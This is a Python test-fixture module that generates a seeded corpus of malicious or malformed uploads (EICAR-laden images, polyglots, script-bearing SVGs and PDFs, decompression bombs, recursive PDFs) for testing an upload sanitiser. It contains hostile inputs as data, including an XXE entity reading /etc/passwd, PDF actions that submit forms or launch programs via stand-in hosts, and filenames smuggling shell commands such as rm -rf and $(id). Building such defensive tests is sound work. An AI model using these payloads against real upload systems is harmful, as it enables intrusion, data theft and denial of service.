"""Uploads that mean harm, or are merely broken, made from a seed. Each carries ``marker`` where its payload is."""

import io
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import lru_cache

import pikepdf
from PIL import Image, PngImagePlugin

#: The harmless test file that every virus scanner must report, put together here so that this source is not reported.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Hostile:
    what: str
    name: str
    data: bytes
    #: True: it must be refused. False: it must be taken, cleaned. None: either, as long as nothing active survives.
    refused: bool | None
    #: Bytes that must not be in what is kept.
    marker: bytes
    #: What the browser claims, where that is a lie.
    size: int | None = None


Maker = Callable[[random.Random, bytes], Iterator[Hostile]]


def corpus(seed: int, count: int) -> list[Hostile]:
    """``count`` uploads; every kind at least once where ``count`` allows it."""
    chance = random.Random(seed)
    makers = [eicar, polyglots, drawings, web_pages, active_pdfs, huge, cut_off, flipped, wrong_types, odd_names, sizes, bombs, moving]
    makers += [unusual, locked, tangled]
    made: list[Hostile] = []
    round_number = 0
    while len(made) < count:
        for maker in makers:
            made += maker(chance, f"payload{seed}r{round_number}x{chance.randrange(10**9)}".encode())
        round_number += 1
    first_of_each = {each.what: each for each in reversed(made)}
    rest = [each for each in made if first_of_each[each.what] is not each]
    return [*first_of_each.values(), *rest][: max(count, len(first_of_each))]


# --- Plain material -----------------------------------------------------------------------------------------------


def picture(chance: random.Random, form: str = "PNG", mode: str = "RGB", size: tuple[int, int] | None = None, **options: object) -> bytes:
    width, height = size or (chance.randrange(40, 200), chance.randrange(40, 200))
    dots = Image.frombytes("L", (width, height), chance.randbytes(width * height)).convert("RGB").convert(mode)
    out = io.BytesIO()
    dots.save(out, form, **options)
    return out.getvalue()


def pdf(chance: random.Random, pages: int = 1, change: Callable[[pikepdf.Pdf], object] | None = None, **options: object) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        page = document.add_blank_page(page_size=(chance.randrange(100, 600), chance.randrange(100, 800)))
        page.Contents = document.make_stream(f"0 0 1 rg {chance.randrange(50)} 10 40 40 re f".encode())
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with(parts: bytes, width: int = 50, height: int = 50, rows: bytes | None = None) -> bytes:
    """A PNG with extra chunks before its dots."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    dots = zlib.compress(rows if rows is not None else (b"\0" + b"\x80" * width) * height)
    return b"\x89PNG\r\n\x1a\n" + head + parts + chunk(b"IDAT", dots) + chunk(b"IEND", b"")


@lru_cache(maxsize=1)
def zeros_compressed(megabytes: int = 300) -> bytes:
    squeeze = zlib.compressobj(9)
    return b"".join(squeeze.compress(bytes(1024 * 1024)) for _ in range(megabytes)) + squeeze.flush()


# --- Kinds --------------------------------------------------------------------------------------------------------


def eicar(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    for name in ("eicar.com", "scan.png", "scan.pdf", "scan.jpg"):
        yield Hostile("test virus under a name", name, EICAR + marker, True, marker)
    yield Hostile("test virus behind a picture", "a.png", picture(chance) + EICAR + marker, False, EICAR)
    yield Hostile("test virus in a comment", "a.jpg", picture(chance, "JPEG", comment=EICAR + marker), False, EICAR)
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", (EICAR + marker).decode())
    yield Hostile("test virus in a text chunk", "a.png", picture(chance, pnginfo=text), False, EICAR)
    yield Hostile("test virus attached to a PDF", "a.pdf", pdf(chance, change=lambda d: attach(d, "eicar.com", EICAR)), False, EICAR)


def polyglots(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    script = b"<script>alert('" + marker + b"')</script>"
    archive = b"PK\x03\x04" + marker + b"PK\x05\x06" + bytes(18)
    yield Hostile("picture and archive", "a.jpg", picture(chance, "JPEG") + archive, False, marker)
    yield Hostile("picture and web page", "a.html", picture(chance) + b"<html>" + script, False, marker)
    yield Hostile("picture with a script in its comment", "a.jpg", picture(chance, "JPEG", comment=b"*/" + script), False, marker)
    yield Hostile("picture with PHP in a chunk", "a.php.png", png_with(chunk(b"tEXt", b"a\0<?php " + marker)), False, marker)
    yield Hostile("GIF and script", "a.gif", b"GIF89a/*" + bytes(20) + b"*/=1;" + script, True, marker)
    yield Hostile("web page, then PDF", "a.pdf", b"<html>" + script + pdf(chance), True, marker)
    yield Hostile("PDF that begins late", "a.pdf", chance.randbytes(200) + b"\n" + pdf(chance), True, marker)
    yield Hostile("PDF and archive", "a.pdf", pdf(chance) + archive, False, marker)
    yield Hostile("BMP that is a script", "a.bmp", b"BM/*" + bytes(30) + b"*/=1;" + marker, True, marker)
    webp = picture(chance, "WEBP") + b"XXXX" + struct.pack("<I", len(script)) + script
    yield Hostile("WebP with a part too many", "a.webp", webp, False, marker)


def drawings(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    bodies = [
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(\"%s\")'/>",
        b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>%s</script></svg>",
        b"<!-- %s --><svg><foreignObject><iframe src='javascript:1'/></foreignObject></svg>",
        b"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;%s</svg>",
        b" \n\t<SVG><a xlink:href='javascript:%s'/></SVG>",
    ]
    for body in bodies:
        drawing = body % marker
        for name, data in (("a.svg", drawing), ("a.png", drawing), ("a.jpg", drawing.decode().encode("utf-16"))):
            yield Hostile("drawing with a script", name, data, True, marker)
    yield Hostile("drawing, compressed", "a.svgz", b"\x1f\x8b\x08\0" + zlib.compress(bodies[0] % marker), True, marker)


def web_pages(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    for begin in (
        b"<!DOCTYPE html>",
        b"\xef\xbb\xbf<html>",
        b"<HtMl>",
        b"<script>",
        b"  <body onload=x>",
        b"<!---->",
        b"<a href=x>",
        b"plain ",
    ):
        yield Hostile("web page", chance.choice(["a.html", "a.png", "a.pdf"]), begin + b"<script>" + marker + b"</script>", True, marker)


def attach(document: pikepdf.Pdf, name: str, data: bytes) -> None:
    document.attachments[name] = pikepdf.AttachedFileSpec(document, data)


def active_pdfs(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    word = marker.decode()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"app.alert('{word}')")
    actions = {
        "a script when it opens": lambda d: d.Root.__setattr__("OpenAction", script),
        "a script on its page": lambda d: d.pages[0].obj.__setattr__("AA", pikepdf.Dictionary(O=script)),
        "a script among its names": lambda d: d.Root.__setattr__(
            "Names", pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("x"), script]))
        ),
        "a program to start": lambda d: d.Root.__setattr__("OpenAction", pikepdf.Dictionary(S=pikepdf.Name.Launch, F=f"{word}.exe")),
        "an address to open": lambda d: d.Root.__setattr__(
            "OpenAction", pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"http://{word}.example/")
        ),
        "a form that sends itself": lambda d: d.Root.__setattr__(
            "OpenAction", pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=f"http://{word}.example/")
        ),
        "another file to open": lambda d: d.Root.__setattr__(
            "OpenAction", pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=f"\\\\{word}.example\\share")
        ),
        "an attachment": lambda d: attach(d, f"{word}.html", b"<script>" + marker),
        "an XFA form": lambda d: d.Root.__setattr__(
            "AcroForm", pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=d.make_stream(b"<xdp>" + marker + b"</xdp>"))
        ),
        "a film": lambda d: d.pages[0].obj.__setattr__(
            "Annots",
            pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 50, 50], T=word)]),
        ),
        "metadata": lambda d: d.docinfo.__setitem__("/Title", f"<script>{word}</script>"),
    }
    for what, change in actions.items():
        yield Hostile(f"PDF with {what}", "a.pdf", pdf(chance, change=change), False, marker)


def huge(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    for width, height in ((60000, 60000), (2**31 - 1, 1), (1, 2**31 - 1), (20000, 20000), (8000, 8000)):
        yield Hostile("PNG of enormous size", "a.png", png_with(b"", width, height, rows=bytes(100)), True, marker)
    jpeg = bytearray(picture(chance, "JPEG"))
    at = jpeg.index(b"\xff\xc0") + 5
    jpeg[at : at + 4] = struct.pack(">HH", 65500, 65500)
    yield Hostile("JPEG of enormous size", "a.jpg", bytes(jpeg), True, marker)
    for size in ("1000000000 1000000000", "-5 -5", "0 0", "1e30 1e30", "14400 0.001"):
        data = pdf(chance).replace(b"MediaBox [ 0 0 ", b"MediaBox [ 0 0 " + size.encode() + b" %")
        yield Hostile("PDF page of impossible size", "a.pdf", data, None, marker)
    yield Hostile("PDF of too many pages", "a.pdf", pdf(chance, pages=chance.randrange(21, 60)), True, marker)
    yield Hostile("picture too small", "a.png", picture(chance, size=(1, 1)), True, marker)


def cut_off(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    for name, data, refused in (
        ("a.jpg", picture(chance, "JPEG"), True),
        ("a.png", picture(chance), True),
        ("a.webp", picture(chance, "WEBP"), True),
        ("a.pdf", pdf(chance), None),
    ):
        end = chance.randrange(12, int(len(data) * 0.7))
        yield Hostile(f"cut off: {name}", name, data[:end], refused, marker)


def flipped(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    for name, data in (
        ("a.jpg", picture(chance, "JPEG")),
        ("a.png", picture(chance)),
        ("a.webp", picture(chance, "WEBP")),
        ("a.pdf", pdf(chance)),
    ):
        broken = bytearray(data)
        for _ in range(chance.randrange(1, 40)):
            broken[chance.randrange(len(broken))] = chance.randrange(256)
        yield Hostile(f"bytes changed: {name}", name, bytes(broken), None, marker)


def wrong_types(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    noise = chance.randbytes(200) + marker
    for what, begin in {
        "Windows program": b"MZ\x90\0",
        "Linux program": b"\x7fELF\x02\x01",
        "Office file": b"PK\x03\x04\x14\0",
        "old Office file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "text with macros": b"{\\rtf1",
        "Apple photograph": b"\0\0\0\x18ftypheic",
        "script": b"#!/bin/sh\n",
        "noise": b"\x01\x02",
        "words": b"Dear Priya, ",
    }.items():
        yield Hostile(f"wrong type: {what}", chance.choice(["a.pdf", "a.png", "a.jpg"]), begin + noise, True, marker)
    for form in ("TIFF", "BMP", "GIF"):
        yield Hostile(f"wrong type: {form}", "a.png", picture(chance, form), True, marker)


def odd_names(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    names = [
        "../../../../etc/cron.d/x", "..\\..\\windows\\x.exe", "scan\u202egpj.exe", "a\0.png", "a\r\nSet-Cookie: x=1.png",
        '"; rm -rf ~;".png', "<img src=x onerror=alert(1)>.png", "", ".", "..", "/", "CON", ".htaccess", "x" * 5000,
        "Ł\u0301ódź zdjęcie.jpg", "$(id).png", "a.pdf.exe",
    ]  # fmt: skip
    for name in chance.sample(names, 6):
        yield Hostile("odd name", name, picture(chance, chance.choice(["PNG", "JPEG", "WEBP"])), False, marker)


def sizes(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    yield Hostile("nothing in it", "a.png", b"", True, marker)
    yield Hostile("too large", "a.pdf", b"%PDF-1.7\n" + bytes(15 * 1024 * 1024), True, marker)
    yield Hostile("too large, and lies about it", "a.pdf", b"%PDF-1.7\n" + bytes(15 * 1024 * 1024), True, marker, size=10)


def bombs(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    zeros = zeros_compressed()
    yield Hostile("compressed text, enormous", "a.png", png_with(chunk(b"zTXt", b"a\0\0" + zeros)), None, marker)
    yield Hostile("compressed profile, enormous", "a.png", png_with(chunk(b"iCCP", b"a\0\0" + zeros)), None, marker)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 50, 50, 8, 0, 0, 0, 0))
    dots = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zeros) + chunk(b"IEND", b"")
    yield Hostile("dots that never end", "a.png", dots, None, marker)

    def flood(document: pikepdf.Pdf) -> None:
        document.pages[0].Contents = pikepdf.Stream(document, zeros, Filter=pikepdf.Name.FlateDecode)

    yield Hostile("PDF page, enormous when unpacked", "a.pdf", pdf(chance, change=flood, compress_streams=False), None, marker)


def moving(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    frames = [Image.new("RGB", (40, 40), (at * 20, 0, 0)) for at in range(chance.randrange(2, 6))]
    for form, refused in (("PNG", True), ("WEBP", True), ("GIF", True), ("MPO", False)):
        out = io.BytesIO()
        frames[0].save(out, form, save_all=True, append_images=frames[1:])
        yield Hostile(f"several pictures in one: {form}", f"a.{form.lower()}", out.getvalue(), refused, marker)


def unusual(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    word = marker.decode()
    position = Image.Exif()
    position[0x010E] = word
    position[0x0112] = chance.randrange(1, 9)
    position.get_ifd(0x8825)[29] = word
    yield Hostile("where it was taken", "a.jpg", picture(chance, "JPEG", exif=position), False, marker)
    yield Hostile("a colour profile", "a.png", picture(chance, icc_profile=marker * 20), False, marker)
    yield Hostile("CMYK", "a.jpg", picture(chance, "JPEG", "CMYK"), False, marker)
    yield Hostile("16 bits", "a.png", picture(chance, "PNG", "I;16"), False, marker)
    yield Hostile("1 bit", "a.png", picture(chance, "PNG", "1"), False, marker)
    yield Hostile("palette, transparent", "a.png", picture(chance, "PNG", "P", transparency=0), False, marker)
    yield Hostile("transparent", "a.webp", picture(chance, "WEBP", "RGBA"), False, marker)
    yield Hostile("grey and transparent", "a.png", picture(chance, "PNG", "LA"), False, marker)
    yield Hostile("progressive", "a.jpg", picture(chance, "JPEG", progressive=True), False, marker)


def locked(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    word = marker.decode()
    for revision in (4, 6):
        both = pikepdf.Encryption(user=word, owner=word, R=revision)
        yield Hostile("PDF with a password", "a.pdf", pdf(chance, encryption=both), True, marker)
        owner = pikepdf.Encryption(user="", owner=word, R=revision)
        yield Hostile("PDF locked against changes", "a.pdf", pdf(chance, encryption=owner), False, marker)


def tangled(chance: random.Random, marker: bytes) -> Iterator[Hostile]:
    def own_parent(document: pikepdf.Pdf) -> None:
        document.Root.Pages.Kids.append(document.Root.Pages)

    def draws_itself(document: pikepdf.Pdf) -> None:
        drawing = document.make_stream(b"/X Do " * 50)
        drawing.Type, drawing.Subtype, drawing.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, pikepdf.Array([0, 0, 9, 9])
        drawing = document.make_indirect(drawing)
        drawing.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=drawing))
        document.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=drawing))
        document.pages[0].Contents = document.make_stream(b"/X Do")

    def endless(document: pikepdf.Pdf) -> None:
        document.pages[0].Contents = document.make_stream(b"q " * chance.randrange(10_000, 200_000))

    for what, change in (("page tree in a circle", own_parent), ("drawing that draws itself", draws_itself), ("deep content", endless)):
        try:
            data = pdf(chance, change=change)
        except Exception:  # the library that makes it will not write it: nothing to try
            continue
        yield Hostile(f"PDF, {what}", "a.pdf", data, None, marker)
    yield Hostile("PDF of nothing but nesting", "a.pdf", b"%PDF-1.7\n1 0 obj" + b"[" * 100_000 + marker, True, marker)
    yield Hostile("PDF of nothing", "a.pdf", b"%PDF-1.7\n%%EOF" + marker, True, marker)
